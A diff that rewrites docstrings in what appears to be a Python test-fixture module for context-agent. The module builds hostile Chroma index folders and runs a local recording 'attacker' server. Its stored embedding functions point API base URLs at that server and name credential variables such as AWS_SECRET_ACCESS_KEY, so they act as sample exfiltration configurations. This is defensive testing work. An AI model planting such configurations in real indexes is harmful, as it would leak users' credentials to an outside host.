@@ -1,4 +1,4 @@
-"""Index folders of an attacker, which name addresses, key variables, models and code; and the attacker's server."""
+"""Hostile index folders, which name addresses, key variables, models and code, and a server that records requests."""
 
 import json
 import shutil
@@ -26,16 +26,21 @@ SECRETS = {
     "CHROMA_API_KEY": "fake-chroma-secret-4714",
     "CONTEXT_AGENT_EMBEDDINGS_API_KEY": "fake-embeddings-secret-4715",
 }
-"""Environment variables that a stored function could name, with values that are found again where they leak."""
+"""Environment variables that a stored embedding function could name. A leaked value is recognizable."""
 VARIABLE = "AWS_SECRET_ACCESS_KEY"
 TRACE = "code-ran"
-"""The file that the code in a hostile folder writes beside the folder when it runs."""
+"""The name of the file that code in a hostile folder writes beside the folder if it runs."""
 TEXTS = ("The harbour pilot kept a ledger of tides.", "A glazier from Ghent sold lenses.", "Rope was filmed in 1948.")
 DOCUMENTS = [Document(f"d{number}", text) for number, text in enumerate(TEXTS)]
 
 
 class AttackerServer:
-    """An HTTP server in a thread, which refuses and records every request."""
+    """An HTTP server in a thread that records and refuses every request.
+
+    Attributes:
+        requests: The recorded requests, as text.
+        address: The server's address, such as `http://127.0.0.1:9000`.
+    """
 
     def __init__(self) -> None:
         self.requests: list[str] = []
@@ -57,35 +62,45 @@ class AttackerServer:
         threading.Thread(target=self._server.serve_forever, daemon=True).start()
 
     def close(self) -> None:
-        """End the server."""
+        """Stop the server."""
         self._server.shutdown()
         self._server.server_close()
 
 
 @dataclass(frozen=True)
 class HostileIndex:
-    """A folder's deviation from a harmless one. `manifest` replaces fields of our own manifest, or all of it."""
+    """The differences of a hostile folder from a harmless one.
+
+    Attributes:
+        name: The name of the attack.
+        configuration: The embedding function in Chroma's column `config_json_str`.
+        dense: The embedding function of the schema's vectors.
+        defaults: The embedding function of the schema's defaults.
+        sparse: The embedding function of a sparse index.
+        manifest: Fields that replace those of context-agent's manifest, or a text that replaces all of it.
+        files: Further files by path.
+    """
 
     name: str
     configuration: Mapping[str, Any] | None = None
-    """The embedding function in Chroma's column `config_json_str`."""
     dense: Mapping[str, Any] | None = None
-    """The embedding function of the schema's vectors."""
     defaults: Mapping[str, Any] | None = None
-    """The embedding function of the schema's defaults."""
     sparse: Mapping[str, Any] | None = None
-    """The function of a sparse index."""
     manifest: Mapping[str, Any] | str | None = None
     files: Mapping[str, str] = field(default_factory=dict)
 
 
 def function(name: str, **config: Any) -> dict[str, Any]:
-    """A stored embedding function, in Chroma's own form."""
+    """Return a stored embedding function in Chroma's own format."""
     return {"type": "known", "name": name, "config": config}
 
 
 def hostile_indexes(address: str) -> Iterator[HostileIndex]:
-    """Some forty of them; `address` is the attacker's, e.g. `http://127.0.0.1:9000`."""
+    """Yield about forty hostile indexes.
+
+    Args:
+        address: The attacker's address, such as `http://127.0.0.1:9000`.
+    """
     for stored in _functions(address):
         yield HostileIndex(stored["name"], dense=stored, defaults=stored)
     openai = function("openai", model_name="m", api_key_env_var=VARIABLE, api_base=f"{address}/v1")
@@ -129,9 +144,12 @@ def hostile_indexes(address: str) -> Iterator[HostileIndex]:
 
 
 def build(index: HostileIndex, folder: Path, templates: Path) -> None:
-    """Make the folder: a real Chroma folder of three texts, with what it stores changed in Chroma's database.
+    """Make the folder of a hostile index from a real Chroma folder of three texts.
 
-    The two harmless folders that it starts from are made in `templates` where they are missing.
+    Args:
+        index: The changes to the folder's database and files.
+        folder: The folder to make.
+        templates: A folder for the two harmless folders that are copied. They are made if they are missing.
     """
     template = templates / ("foreign" if index.manifest is None else "own")
     if not template.is_dir():
@@ -145,7 +163,7 @@ def build(index: HostileIndex, folder: Path, templates: Path) -> None:
 
 
 def _functions(address: str) -> list[dict[str, Any]]:
-    """One of each kind that Chroma knows."""
+    """Return one embedding function of each kind that Chroma knows."""
     key = {"api_key_env_var": VARIABLE}
     return [
         function("openai", model_name="m", api_base=f"{address}/v1", **key),
@@ -181,7 +199,7 @@ def _functions(address: str) -> list[dict[str, Any]]:
 
 
 def _manifest(embedder: str, spec: str = "") -> dict[str, Any]:
-    """Manifest fields that name an embedder, and the spec that it is loaded by."""
+    """Return manifest fields that name an embedder, and the specification that loads it."""
     return {"embedder": embedder, "spec": spec}
 
 
